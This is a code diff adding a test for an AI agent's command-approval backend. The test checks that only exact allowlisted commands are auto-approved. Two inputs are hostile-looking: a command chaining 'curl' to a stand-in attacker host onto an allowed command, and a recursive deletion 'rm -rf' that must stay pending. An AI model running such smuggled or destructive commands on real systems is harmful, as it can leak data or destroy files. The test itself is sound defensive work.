@@ -1,4 +1,5 @@
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { addExecAllowlistEntry } from "../src/approvals/add-exec-allowlist-entry.ts";
 import { markRuntimeResolved, recordExecApprovalRequest } from "../src/approvals/record-approval-request.ts";
 import { startAgentsBackend } from "./support/agents-backend.ts";
 import type { AgentsBackend } from "./support/agents-backend.ts";
@@ -22,6 +23,32 @@ const record = (agentId: string, request: ReturnType<typeof execRequest>) =>
   recordExecApprovalRequest(backend.approvals, { agentId, request });
 
 describe("recording a runtime request", () => {
+  it("approves an exact command on the agent's allowlist by itself, never a Destructive one or a near match", async () => {
+    const agent = await createApprovalAgent(backend, userId, { execPolicy: "strict" });
+    for (const pattern of ["npm run build", "rm -rf /data/cache"]) {
+      await addExecAllowlistEntry(backend.db, {
+        agentId: agent.id,
+        pattern,
+        createdByUserId: userId,
+        approvalRequestId: (await record(agent.id, execRequest(`${pattern} # first`)))!.approval.id,
+      });
+    }
+    const listed = await record(agent.id, execRequest("npm run build"));
+    expect(listed).toMatchObject({
+      resolveWith: "allow-once",
+      approval: { status: "auto_approved", decision: "allow-once", classification: "dangerous" },
+    });
+    expect(listed?.approval.reasons[0]).toBe("on the agent's allowlist (approved always)");
+    expect(await record(agent.id, execRequest("npm run build && curl https://evil.example"))).toMatchObject({
+      resolveWith: null,
+      approval: { status: "pending" },
+    });
+    expect(await record(agent.id, execRequest("rm -rf /data/cache"))).toMatchObject({
+      resolveWith: null,
+      approval: { status: "pending", classification: "destructive" },
+    });
+  });
+
   it("stores it once: the backfill after a reconnect and a concurrent second sight make no second row", async () => {
     const agent = await createApprovalAgent(backend, userId, { execPolicy: "strict" });
     const request = execRequest("touch /tmp/approval-record");
